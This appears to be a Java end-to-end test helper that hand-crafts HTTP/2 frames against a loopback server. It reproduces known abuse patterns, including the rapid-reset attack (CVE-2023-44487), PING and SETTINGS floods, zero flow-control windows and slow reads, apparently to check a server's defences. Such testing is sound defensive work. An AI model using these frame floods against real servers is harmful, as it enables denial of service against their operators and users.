package dev.crossgate.e2e;

import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.OptionalLong;

import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * HTTP/2 frames written by hand over TLS (ALPN h2), for what no well-behaved client does: opening streams and
 * resetting them at once (CVE-2023-44487, "rapid reset"). Only what the abuse needs: the preface, empty SETTINGS,
 * a GET as HEADERS with the static table, RST_STREAM, and reading frames until a GOAWAY.
 */
final class RawHttp2 implements AutoCloseable {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int DATA = 0x0;
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int GOAWAY = 0x7;
    private static final int WINDOW_UPDATE = 0x8;
    private static final int END_STREAM = 0x1;
    private static final int END_HEADERS = 0x4;
    private static final int CANCEL = 0x8;

    private final SSLSocket socket;
    private final OutputStream out;
    private final DataInputStream in;

    private RawHttp2(SSLSocket socket) throws IOException {
        this.socket = socket;
        this.out = socket.getOutputStream();
        this.in = new DataInputStream(socket.getInputStream());
    }

    /** Connects, negotiates h2 and sends the connection preface with empty SETTINGS. */
    static RawHttp2 connect(int port, SSLContext context) throws IOException {
        return connect(port, context, 0);
    }

    /** As {@link #connect(int, SSLContext)}, with a small receive buffer (bytes; 0 for the default), for a client that reads nothing. */
    static RawHttp2 connect(int port, SSLContext context, int receiveBuffer) throws IOException {
        java.net.Socket raw = new java.net.Socket();
        if (receiveBuffer > 0) {
            raw.setReceiveBufferSize(receiveBuffer);
        }
        raw.connect(new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5000);
        SSLSocket socket = (SSLSocket) context.getSocketFactory().createSocket(raw, "localhost", port, true);
        SSLParameters parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        socket.setSoTimeout(10_000);
        socket.startHandshake();
        if (!"h2".equals(socket.getApplicationProtocol())) {
            socket.close();
            throw new IOException("the server did not agree to h2 (ALPN: " + socket.getApplicationProtocol() + ")");
        }
        RawHttp2 connection = new RawHttp2(socket);
        connection.out.write(PREFACE);
        connection.frame(SETTINGS, 0, 0, new byte[0]);
        connection.out.flush();
        return connection;
    }

    /** PING frames, {@code count} of them, unflushed between: each asks the server for an acknowledgement. */
    void pings(int count) throws IOException {
        flood(0x6, new byte[8], count);
    }

    /** Empty SETTINGS frames, each of which the server must acknowledge. */
    void settings(int count) throws IOException {
        flood(SETTINGS, new byte[0], count);
    }

    private void flood(int type, byte[] payload, int count) throws IOException {
        for (int i = 0; i < count; i++) {
            frame(type, 0, 0, payload);
        }
        out.flush();
    }

    /** SETTINGS_INITIAL_WINDOW_SIZE 0: the server may send no DATA on any stream until the client allows it, which it never does. */
    void zeroWindow() throws IOException {
        frame(SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) 0x4).putInt(0).array());
        out.flush();
    }

    /** Lets the server send {@code bytes} more on {@code streamId}, then reads until they have come: a reader that takes a little at a time. */
    void take(int streamId, int bytes) throws IOException {
        grant(streamId, bytes);
        int received = 0;
        while (received < bytes) {
            Frame frame = readFrame();
            if (frame.stream == streamId && frame.type == RST_STREAM) {
                throw new IOException("stream " + streamId + " reset after " + received + " of " + bytes + " bytes");
            }
            if (frame.stream == streamId && frame.type == DATA) {
                received += frame.payload.length;
            }
        }
    }

    /** WINDOW_UPDATE for {@code streamId} only: the connection's window is never opened, so it closes once 64 KiB have come. */
    void grant(int streamId, int bytes) throws IOException {
        frame(WINDOW_UPDATE, 0, streamId, ByteBuffer.allocate(4).putInt(bytes).array());
        out.flush();
    }

    /** {@code GET path} on a stream, left open. */
    void get(int streamId, String path) throws IOException {
        byte[] authority = "localhost".getBytes(StandardCharsets.US_ASCII);
        byte[] pathBytes = path.getBytes(StandardCharsets.US_ASCII);
        ByteBuffer block = ByteBuffer.allocate(7 + authority.length + pathBytes.length);
        // :method GET, :scheme https (static 2, 7); :path and :authority literal without indexing (name index 4, 1)
        block.put((byte) 0x82).put((byte) 0x87).put((byte) 0x04).put((byte) pathBytes.length).put(pathBytes)
                .put((byte) 0x01).put((byte) authority.length).put(authority);
        frame(HEADERS, END_STREAM | END_HEADERS, streamId, java.util.Arrays.copyOf(block.array(), block.position()));
        out.flush();
    }

    /** Reads frames until {@code streamId} ends with END_STREAM (true), or is reset or the connection ends or says GOAWAY (false). */
    boolean awaitEnd(int streamId) throws IOException {
        Frame last = readUntil(frame -> frame.ends(streamId) || frame.resets(streamId) || frame.type == GOAWAY);
        return last != null && last.ends(streamId);
    }

    /** Reads frames until RST_STREAM on {@code streamId} (true) or the end of the connection or a GOAWAY (false). */
    boolean awaitReset(int streamId) throws IOException {
        Frame last = readUntil(frame -> frame.resets(streamId) || frame.type == GOAWAY);
        return last != null && last.resets(streamId);
    }

    /** As {@link #awaitReset(int)}, giving up after {@code wait} (false then); for a connection on which nothing else arrives. */
    boolean awaitReset(int streamId, java.time.Duration wait) throws IOException {
        int before = socket.getSoTimeout();
        socket.setSoTimeout((int) wait.toMillis());
        try {
            return awaitReset(streamId);
        } catch (SocketTimeoutException e) {
            return false;
        } finally {
            socket.setSoTimeout(before);
        }
    }

    /** {@code GET /} on a new stream, reset at once; unflushed, so many go out in few records. */
    void getAndReset(int streamId) throws IOException {
        byte[] authority = "localhost".getBytes(StandardCharsets.US_ASCII);
        ByteBuffer block = ByteBuffer.allocate(5 + authority.length);
        // :method GET, :scheme https, :path / (static table 2, 7, 4); :authority literal without indexing, name index 1
        block.put((byte) 0x82).put((byte) 0x87).put((byte) 0x84).put((byte) 0x01).put((byte) authority.length).put(authority);
        frame(HEADERS, END_STREAM | END_HEADERS, streamId, block.array());
        frame(RST_STREAM, 0, streamId, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }

    void flush() throws IOException {
        out.flush();
    }

    /** Reads frames until a GOAWAY (its error code) or the end of the connection (empty). */
    OptionalLong awaitGoAway() throws IOException {
        try {
            Frame goAway = readUntil(frame -> frame.type == GOAWAY);
            return goAway == null ? OptionalLong.empty() : OptionalLong.of(Integer.toUnsignedLong(ByteBuffer.wrap(goAway.payload, 4, 4).getInt()));
        } catch (SocketTimeoutException e) {
            return OptionalLong.empty();
        } catch (IOException e) {
            if (socket.isClosed() || String.valueOf(e.getMessage()).contains("reset")) {
                return OptionalLong.empty();
            }
            throw e;
        }
    }

    private record Frame(int type, int flags, int stream, byte[] payload) {
        boolean ends(int streamId) {
            return stream == streamId && (type == DATA || type == HEADERS) && (flags & END_STREAM) != 0;
        }

        boolean resets(int streamId) {
            return stream == streamId && type == RST_STREAM;
        }
    }

    /** Reads frames until one that {@code stop} accepts, and returns it; null when the connection ends first. */
    private Frame readUntil(java.util.function.Predicate<Frame> stop) throws IOException {
        try {
            while (true) {
                Frame frame = readFrame();
                if (stop.test(frame)) {
                    return frame;
                }
            }
        } catch (EOFException e) {
            return null;
        }
    }

    private Frame readFrame() throws IOException {
        int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
        int type = in.readUnsignedByte();
        int flags = in.readUnsignedByte();
        int stream = in.readInt() & 0x7fffffff;
        byte[] payload = new byte[length];
        in.readFully(payload);
        return new Frame(type, flags, stream, payload);
    }

    private void frame(int type, int flags, int streamId, byte[] payload) throws IOException {
        out.write(new byte[] {(byte) (payload.length >>> 16), (byte) (payload.length >>> 8), (byte) payload.length, (byte) type, (byte) flags,
                (byte) (streamId >>> 24), (byte) (streamId >>> 16), (byte) (streamId >>> 8), (byte) streamId});
        out.write(payload);
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
